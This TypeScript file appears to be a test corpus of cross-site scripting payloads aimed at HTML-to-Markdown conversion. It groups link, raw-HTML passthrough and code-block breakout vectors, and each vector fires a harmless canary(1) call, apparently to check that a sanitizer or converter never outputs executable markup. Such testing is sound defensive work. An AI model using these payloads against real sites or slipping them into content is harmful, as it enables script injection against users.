import type { Technique } from './technique.js'

const links: Technique = {
  name: 'markdown-links',
  idea: 'text of a page that Markdown would read as a link, an image, an autolink or a definition',
  runsRaw: false,
  pages: [
    '<p>[x](javascript:canary(1))</p>',
    '<p>[x](javascript&amp;colon;canary(1))</p>',
    '<p>![x](javascript:canary(1))</p>',
    '<p>&lt;javascript:canary(1)&gt;</p>',
    '<p>[x][y]</p><p>[y]: javascript:canary(1)</p>',
    '<p>[y]: &lt;javascript:canary(1)&gt; "title"</p><p>[y]</p>',
    '<p>[x](&lt;javascript:canary(1)&gt;)</p>',
    '<p>![x](https://page.test/a.png "&amp;quot; onerror=&amp;quot;canary(1)")</p>',
    '<p>[x](data:text/html,&lt;script&gt;canary(1)&lt;/script&gt;)</p>',
    '<a href="https://page.test/)[y](javascript:canary(1)">x</a>',
    '<a href="https://page.test/a b) &quot;t&quot; onclick=canary(1)">x](javascript:canary(1))</a>',
    '<a href="https://page.test/">x](javascript:canary(1))[y</a>',
    '<a href="https://page.test/">a<br>[b](javascript:canary(1))</a>',
    '<img src="https://page.test/a.png" alt="x](javascript:canary(1)) ![y">',
    '<img src="https://page.test/a.png" alt="x" title="&quot;) [y](javascript:canary(1)) (&quot;">',
    '<img src="https://page.test/a.png)![x](javascript:canary(1)" alt="x">',
    '<p>www.page.test/&lt;img src=x onerror=canary(1)&gt; https://page.test/&quot;onmouseover=canary(1)</p>',
    '<p>javascript:canary(1) x@javascript:canary(1)</p>',
    '<p>[^1]</p><p>[^1]: &lt;img src=x onerror=canary(1)&gt;</p>',
    '<a href="javascript:canary(1)">[x](javascript:canary(1))</a>',
  ],
}

const passthrough: Technique = {
  name: 'markdown-html',
  idea: 'text of a page that Markdown would pass on as HTML',
  runsRaw: false,
  pages: [
    '<p>text &lt;img src=x onerror=canary(1)&gt; text</p>',
    '<h1>&lt;img src=x onerror=canary(1)&gt;</h1>',
    '<ul><li>&lt;script&gt;canary(1)&lt;/script&gt;</li></ul>',
    '<blockquote>&lt;svg onload=canary(1)&gt;</blockquote>',
    '<table><tr><th>&lt;img src=x onerror=canary(1)&gt;<th>b<tr><td>| &lt;img src=x onerror=canary(1)&gt;<td>\\|&lt;svg onload=canary(1)&gt;</table>',
    '<a href="https://page.test/">&lt;img src=x onerror=canary(1)&gt;</a>',
    '<p>\\&lt;img src=x onerror=canary(1)&gt; \\\\&lt;img src=x onerror=canary(1)&gt;</p>',
    '<p>&lt;!-- --&gt;&lt;img src=x onerror=canary(1)&gt;</p>',
    '<p>&lt;![CDATA[ &lt;img src=x onerror=canary(1)&gt; ]]&gt;</p>',
    '<p>&lt;?php ?&gt;&lt;img src=x onerror=canary(1)&gt;</p>',
    '<p>&lt;!X &gt;&lt;img src=x onerror=canary(1)&gt;</p>',
    '<p>&lt;/p&gt;</p><p>&lt;img src=x<br>onerror=canary(1)&gt;</p>',
    '<p>&lt;img src=x<b> onerror=canary(1)</b>&gt;</p>',
    '<dl><dt>&lt;img src=x onerror=canary(1)&gt;</dt><dd>&lt;script&gt;canary(1)&lt;/script&gt;</dd></dl>',
    '<figure><img src="https://page.test/a.png" alt="&lt;img src=x onerror=canary(1)&gt;"><figcaption>&lt;img src=x onerror=canary(1)&gt;</figcaption></figure>',
    '<p>&amp;lt;img src=x onerror=canary(1)&amp;gt; &amp;#60;img src=x onerror=canary(1)&amp;#62;</p>',
    '<p>&lt;details open ontoggle=canary(1)&gt;</p>',
    '<h2>&lt;style&gt;</h2><p>&lt;/style&gt;&lt;img src=x onerror=canary(1)&gt;</p>',
  ],
}

const structures: Technique = {
  name: 'markdown-structures',
  idea: 'text that closes a code block, a cell or a code span and goes on outside',
  runsRaw: false,
  pages: [
    '<pre>```\n&lt;img src=x onerror=canary(1)&gt;\n```\n&lt;img src=x onerror=canary(1)&gt;</pre>',
    '<pre><code>~~~\n&lt;script&gt;canary(1)&lt;/script&gt;</code></pre>',
    '<pre>````````````\n</pre><p>&lt;img src=x onerror=canary(1)&gt;</p>',
    '<p><code>`&lt;img src=x onerror=canary(1)&gt;`</code></p>',
    '<p><code>``</code>&lt;img src=x onerror=canary(1)&gt;<code>``</code></p>',
    '<p><code>a<br>b</code>`&lt;img src=x onerror=canary(1)&gt;`</p>',
    '<pre><code class="language-js`&lt;img">x</code></pre><pre data-lang="js onclick=canary(1)">y</pre>',
    '<pre class="brush: js&quot;onclick=&quot;canary(1)"><code class="lang-&lt;script&gt;">x</code></pre>',
    '<table><tr><th>a|b`|`c<th>`&lt;img src=x onerror=canary(1)&gt;|`</table>',
    '<table><tr><th><pre>```\n&lt;img src=x onerror=canary(1)&gt;</pre><th>b</table>',
    '<p>&nbsp;&nbsp;&nbsp;&nbsp;&lt;img src=x onerror=canary(1)&gt;</p><p>    &lt;img src=x onerror=canary(1)&gt;</p>',
    '<ul><li><pre>\n```\n</pre>&lt;img src=x onerror=canary(1)&gt;</li></ul>',
    '<p>$`&lt;img src=x onerror=canary(1)&gt;`$ $$&lt;svg onload=canary(1)&gt;$$</p>',
    '<math><mtext>$&lt;img src=x onerror=canary(1)&gt;$</mtext></math><math><annotation encoding="application/x-tex">\\text{&lt;/script&gt;&lt;img src=x onerror=canary(1)&gt;}`$</annotation></math>',
    '<p>a  <br>&lt;img src=x onerror=canary(1)&gt;<br>---<br>&lt;svg onload=canary(1)&gt;</p>',
    '<blockquote><pre>&gt; ```\n&lt;img src=x onerror=canary(1)&gt;</pre></blockquote>',
  ],
}

/** Attacks that are aimed at Markdown. */
export const markdownTechniques: readonly Technique[] = [links, passthrough, structures]
